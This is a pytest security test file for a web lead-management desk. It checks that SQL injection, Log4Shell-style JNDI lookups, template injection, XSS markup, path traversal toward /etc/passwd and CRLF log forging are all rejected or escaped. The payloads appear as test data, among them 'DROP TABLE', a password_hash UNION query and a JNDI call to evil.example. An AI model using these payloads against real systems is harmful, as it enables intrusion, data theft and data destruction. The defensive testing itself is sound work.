"""Whatever is sent to the desk is a value: no statement, no file name, no line of the log, no markup."""

from __future__ import annotations

import contextlib
import http.client
import json
import logging
import re
from urllib.parse import quote, urlsplit

import pytest
from running_desk import RunningDesk, words
from sqlalchemy import func, insert, select

from database.tables import counted_chat, feedback, lead, question, staff
from desk.pages import ROUTES
from desk.rendering import STATIC_VERSION, _environment
from leads.actor import COMMAND
from leads.audit import list_audit
from leads.staff import add_staff

STATEMENTS = (
    "' OR '1'='1",
    "'; DROP TABLE lead; --",
    '" OR ""="',
    "1) UNION SELECT password_hash FROM staff --",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(30); --",
    "${jndi:ldap://evil.example/a}",
    "{{ 7411 * 9187 }}",
    "%(name)s %s {0.__class__}",
)
MARKUP = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>"


def raw(running: RunningDesk, method: str, target: str, headers: dict[str, str] | None = None) -> int:
    """Send a request whose first line is as it is written; return the status, 0 for no answer."""
    place = urlsplit(running.url)
    connection = http.client.HTTPConnection(place.hostname or "", place.port, timeout=30)
    connection._validate_path = lambda _: None  # type: ignore[attr-defined]
    connection._validate_method = lambda _: None  # type: ignore[attr-defined]
    with contextlib.closing(connection):
        connection.putrequest(method, target, skip_accept_encoding=True)
        for name, value in (headers or {}).items():
            connection.putheader(name, value)
        connection.endheaders()
        try:
            return connection.getresponse().status
        except http.client.RemoteDisconnected:  # what is no request at all gets no answer
            return 0


@pytest.mark.parametrize("statement", STATEMENTS)
def test_no_field_is_a_statement(running: RunningDesk, statement: str) -> None:
    kept = running.lead()
    running.lead(name="Somebody Else", telephone="+13145550199", email=None)
    browser = running.browser("admin")

    assert kept.ref not in browser.post("/leads/search", {"text": statement}).text
    for name in ("status", "assignee", "days", "urgent", "page"):
        assert browser.get("/leads", params={name: statement}).status_code == 200
    for path in ("/questions?show={}", "/reports?period={}", "/audit?page={}", "/settings/webhook?page={}"):
        assert browser.get(path.format(quote(statement))).status_code == 200
    assert browser.get(f"/leads/{quote(statement, safe='')}").status_code == 404
    browser.post("/privacy/find", {"contact": statement})
    browser.post("/leads/assign", {"ref": statement, "assign_to": statement})
    browser.post(f"/leads/{kept.ref}/assign", {"assign_to": statement, "version": statement})
    browser.post(f"/leads/{kept.ref}/status", {"to": statement, "version": statement})
    browser.post("/questions/mark", {"to": statement, "ids": statement})
    browser.post("/messages/send-again", {"message": statement})
    noted = browser.post(f"/leads/{kept.ref}/notes", {"body": statement})
    assert " ".join(statement.split()) in words(noted)  # as it was typed, and not worked out
    assert "68084857" not in noted.text
    assert running.visitor().sign_in(statement, statement, statement).status_code == 401

    with running.engine.connect() as connection:
        assert connection.execute(select(func.count()).select_from(lead)).scalar_one() == 2
        assert connection.execute(select(func.count()).select_from(staff)).scalar_one() == 1
        assert connection.execute(select(lead.c.status).where(lead.c.ref == kept.ref)).scalar_one() == "new"


def test_what_is_no_field_of_a_request_brings_no_markup_either(running: RunningDesk) -> None:
    ref, at = running.lead().ref, running.clock()
    add_staff(running.engine, COMMAND, "mallory@example.org", "<script>alert(1)</script>", "agent")
    with running.engine.begin() as connection:
        asked = {"conversation_id": "c", "text": MARKUP, "asked_at": at, "status": "open"}
        number = connection.execute(insert(question).values(**asked)).inserted_primary_key[0]
        rating = {"conversation_id": "c", "seq": 1, "at": at, "response": MARKUP, "helpful": False}
        connection.execute(insert(feedback).values(**rating, comment=MARKUP))
        begun = {"conversation_id": "c", "begun_at": at, "page": f"/{MARKUP}", "said": False}
        connection.execute(insert(counted_chat).values(**begun))
    browser = running.browser("admin")
    paths = ["/questions", f"/questions/{number}", "/reports", "/staff", "/audit", "/settings/webhook"]
    paths += [f"/leads/{ref}", f"/nowhere/{quote(MARKUP)}", f"/sign-in?next={quote(MARKUP)}"]
    pages = [browser.get(path) for path in paths]
    pages += [
        browser.post("/settings/webhook/address", {"url": MARKUP}),
        browser.post("/privacy/find", {"contact": MARKUP}),
        browser.post("/staff/add", {"email": MARKUP, "name": MARKUP, "role": MARKUP}),
        running.visitor().sign_in(MARKUP, MARKUP, MARKUP),
    ]
    for page in pages:
        assert page.status_code < 500
        assert "<script>alert" not in page.text, page.url
        assert "<img src=x" not in page.text, page.url
    assert any("&lt;script&gt;" in page.text for page in pages)


def test_every_template_escapes() -> None:
    environment = _environment()
    assert environment.autoescape is True
    assert environment.loader is not None
    for name in environment.loader.list_templates():
        # But the picture for the authenticator app, which the desk draws itself.
        source = environment.loader.get_source(environment, name)[0].replace("{{ qr_code | safe }}", "")
        assert not re.search(r"\|\s*safe\b|autoescape|Markup", source), name


@pytest.mark.parametrize(
    "name",
    [
        "../app.py",
        "..%2fapp.py",
        "..%2F..%2Fclinic.yml",
        "%2e%2e/%2e%2e/clinic.yml",
        "..%5c..%5cclinic.yml",
        "....//clinic.yml",
        "%252e%252e%252fclinic.yml",
        "desk.css%00.py",
        "/etc/passwd",
        "%2fetc%2fpasswd",
    ],
)
def test_no_path_leads_out_of_the_files(running: RunningDesk, name: str) -> None:
    assert raw(running, "GET", f"/static/{STATIC_VERSION}/{name}") == 404
    assert raw(running, "GET", f"/static/{name}") == 404


def test_nobody_writes_lines_into_the_log(running: RunningDesk, caplog: pytest.LogCaptureFixture) -> None:
    forged = "ERROR%20root:%20forged"
    running.browser("agent")
    with caplog.at_level(logging.DEBUG):
        for target in (
            f"/leads/%0d%0a{forged}",
            f"/%0a{forged}",
            f"/\x1b[2J{forged}",
            f"/?{forged}%0a{forged}",
        ):
            raw(running, "GET", target, {"X-Forwarded-For": forged, "User-Agent": forged})
        raw(running, "FORGED", "/leads")
        running.visitor().sign_in(f"x\r\n{forged}", forged, forged)
    ours = [
        each.getMessage() for each in caplog.records if each.name.startswith(("desk", "leads", "database"))
    ]
    assert not [line for line in ours if "forged" in line.lower() or "\n" in line or "\x1b" in line]
    assert (
        "forged" not in json.dumps([row.__dict__ for row in list_audit(running.engine)], default=str).lower()
    )


def test_a_method_that_a_page_has_not_is_refused(running: RunningDesk) -> None:
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT"):
        assert raw(running, method, "/leads") in (400, 404, 405)
    forms = {route.path for route in ROUTES if route.method == "POST"}
    pages = {route.path for route in ROUTES if route.method == "GET"}
    for path in sorted(forms - pages):
        # Nothing is changed by a link.
        assert raw(running, "GET", path.replace("<ref>", "K1").replace("<id>", "1")) == 404
